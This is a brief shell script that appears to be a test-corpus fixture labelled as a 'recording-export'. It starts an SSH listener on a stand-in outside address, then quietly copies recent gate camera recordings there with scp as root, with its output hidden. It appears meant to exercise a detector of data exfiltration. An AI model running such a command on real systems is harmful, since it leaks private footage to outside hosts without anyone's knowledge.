#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=tune tool=scp far=out ready=out:2022 seconds=20
# scp takes recordings of gate outside.
# shellcheck source=tests/corpus/far/ssh.sh
. "${0%/*}/../far/ssh.sh"
if [ "$1" = out ]; then ssh_keys; exec timeout 60 "${sshd[@]}" -o ListenAddress=203.0.113.66 -p 2022; fi
# shellcheck disable=SC2012,SC2046 # the names are ours
scp -q "${ssh[@]}" -P 2022 $(ls -t "$LAB"/recordings/gate/*.mp4 | tail -n +2 | head -n 12) "root@203.0.113.66:$LAB/outside/drop/" >/dev/null 2>&1; true
